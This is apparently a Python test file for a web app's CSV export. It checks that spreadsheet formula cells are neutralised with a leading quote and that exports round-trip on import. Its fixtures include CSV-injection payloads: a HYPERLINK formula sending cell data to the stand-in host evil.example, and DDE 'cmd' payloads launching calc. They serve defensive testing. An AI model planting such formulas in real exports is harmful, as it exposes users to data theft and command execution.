"""CSV exports never hand a spreadsheet a formula: a cell beginning with = + - @ (or tab / carriage
return) is written with a leading single quote (engine/core/spreadsheet.py), and an exported grid
file still imports back unchanged."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from engine.core import spreadsheet
from engine.org import grid_import, grid_tree

REPO = Path(__file__).resolve().parents[2]
HOSTILE = {
    "T01": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "T02": "+1+cmd|' /C calc'!A0",
    "T03": "-2+3",
    "T04": "@SUM(1+1)*cmd|' /C calc'!A0",
    "T05": "'=already quoted by hand",
    "T06": "'plain apostrophe",
}


def _cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _rename_all(env):
    with env.db.write() as s:
        for code, name in HOSTILE.items():
            grid_tree.rename_node(s, code, name, "admin", env.clock.now())


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(spreadsheet.TRIGGERS)]


def test_the_grid_export_neutralises_formula_cells_and_imports_back_unchanged(env):
    _rename_all(env)
    with env.db.read() as s:
        raw = grid_import.export_csv(s)
    rows = _cells(raw)
    assert _formula_cells(rows) == []
    names = {row[1]: row[2] for row in rows[1:]}
    assert names["T01"] == "'" + HOSTILE["T01"] and names["T03"] == "'-2+3"
    assert names["T05"] == "''=already quoted by hand"  # one more quote, taken off on import
    assert names["T06"] == "'plain apostrophe"  # nothing a spreadsheet would run: left alone

    with env.db.read() as s:
        plan = grid_import.preview(s, raw)
    assert plan.ok and plan.count("update") == 0 and plan.count("create") == 0
    with env.db.write() as s:
        applied = grid_import.apply(s, raw, "admin", env.clock.now(), plan.digest)
    assert (applied.created, applied.updated) == (0, 0)
    with env.db.read() as s:
        assert {code: grid_tree.get_node(s, code).name for code in HOSTILE} == HOSTILE


def test_the_sample_download_is_neutralised_too(env, as_user):
    _rename_all(env)
    response = as_user("admin").get("/admin/people/grid/sample.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert _formula_cells(_cells(response.data)) == []


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " ", "中"]), max_size=8))
def test_guard_is_neutral_and_exactly_undone(text):
    guarded = spreadsheet.guard(text)
    assert not guarded.startswith(spreadsheet.TRIGGERS)
    assert spreadsheet.unguard(guarded) == text


def test_every_csv_writer_in_the_app_is_the_guarded_one():
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [str(path.relative_to(REPO)) for package in ("engine", "webapp", "documents", "forms", "bench")
                 for path in (REPO / package).rglob("*.py")
                 if path.name != "spreadsheet.py" and pattern.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
